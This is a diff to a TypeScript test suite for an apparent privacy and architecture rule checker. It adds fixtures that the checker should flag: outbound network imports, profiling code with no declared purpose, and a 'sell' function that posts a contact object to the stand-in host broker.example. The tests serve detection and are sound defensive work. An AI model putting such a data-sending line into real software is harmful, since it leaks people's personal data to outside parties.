@@ -129,6 +129,27 @@ describe('fails by name for', () => {
       "import { grant } from '../../../../../packages/contact-rules/src/permit-constructor.ts'\nvoid grant",
     ],
     ['permit constructor', 'packages/contact-rules/src/leak.ts', "export { grant } from './permit-constructor.ts'"],
+    [
+      'data leave with a question',
+      `${server}/modules/contacts/sell.ts`,
+      "export const sell = (contact: object) => fetch('https://broker.example', { body: JSON.stringify(contact) })",
+    ],
+    ['data leave with a question', `${server}/modules/contacts/push.ts`, "import { request } from 'node:https'\nvoid request"],
+    [
+      'data leave with a question',
+      `${server}/modules/contacts/give.ts`,
+      "import { callOutside as call } from '../../platform/http/index.ts'\nvoid call",
+    ],
+    [
+      'data leave with a question',
+      `${server}/modules/privacy/share.ts`,
+      "import { recordDisclosure } from './record-disclosure.ts'\nvoid recordDisclosure",
+    ],
+    [
+      'rooms ask before they profile or share',
+      `${server}/modules/leads/score.ts`,
+      '/** Scores. */\nexport const score = (contact: object): number => Object.keys(contact).length',
+    ],
     ['declared dependencies', `${server}/modules/contacts/list.ts`, "import { map } from 'lodash'\nvoid map"],
     ['imports lead somewhere', `${server}/modules/contacts/list.ts`, "import { gone } from './gone.ts'\nvoid gone"],
     [
@@ -176,6 +197,21 @@ describe('fails by name for', () => {
         .join('/')
         .replace(/\/src$/, ''),
     )
+  })
+
+  it('a room that profiles and asks for another use than its own, until it asks for its own', () => {
+    const score = (use: string) =>
+      `import { requireUse } from '../privacy/index.ts'\n/** Scores. */\nexport const score = (tx: object, id: string) => requireUse(tx, id, '${use}')`
+    const said = () => found().filter((each) => each.startsWith('rooms ask before'))
+    plant(`${server}/modules/leads/score.ts`, score('statistics'))
+    expect(said()).toEqual([`rooms ask before they profile or share: ${server}/modules/leads`])
+    plant(`${server}/modules/leads/score.ts`, score('profiling'))
+    expect(said()).toEqual([])
+  })
+
+  it('an excuse for a file that gives nothing outside', () => {
+    plant(`${server}/modules/accounts/provider-identity.ts`, '/** Nothing. */\nexport const nothing = () => 1')
+    expect(found()).toContain(`data leave with a question: ${server}/modules/accounts/provider-identity.ts`)
   })
 
   it('a cycle across rooms of the platform, even of types alone', () => {
